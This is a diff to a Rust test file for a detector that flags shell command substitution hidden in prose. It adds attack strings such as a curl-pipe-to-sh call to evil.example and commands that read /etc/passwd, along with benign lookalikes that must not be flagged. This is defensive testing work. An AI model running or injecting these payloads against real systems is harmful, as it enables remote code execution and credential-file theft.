@@ -68,6 +68,31 @@ fn finds_substitutions() {
 }
 
 #[test]
+fn words_tags_and_symbols_excuse_no_substitution() {
+    for command in
+        ["$(curl http://evil.example/x|sh)", "$(cat /etc/passwd)", "$(ls -la)", "`cat /etc/passwd`"]
+    {
+        for prose in ["the cat sat on the mat and ", "the cat sat on the mat and the dog lay under it "] {
+            for attack in [format!("{prose}{command}"), format!("{command} {prose}")] {
+                assert!(signature_of(&attack).is_some(), "{attack}");
+            }
+        }
+    }
+    for padding in ["<br>", "😀 ", "→ "] {
+        let attack = padding.repeat(5) + "$(id)";
+        assert!(signature_of(&attack).is_some(), "{attack}");
+    }
+    for benign in [
+        "the new bike on our list costs $(about 5) or less",
+        "you can see all of the files with `ls` in your folder",
+        "you can see all of the files with `ls -la` in your folder",
+        "the size of the new folder is $(size) and the time of it is $(time)",
+    ] {
+        assert_eq!(signature_of(benign), None, "{benign}");
+    }
+}
+
+#[test]
 fn finds_disguised_commands() {
     for attack in [
         "c''at /etc/passwd",
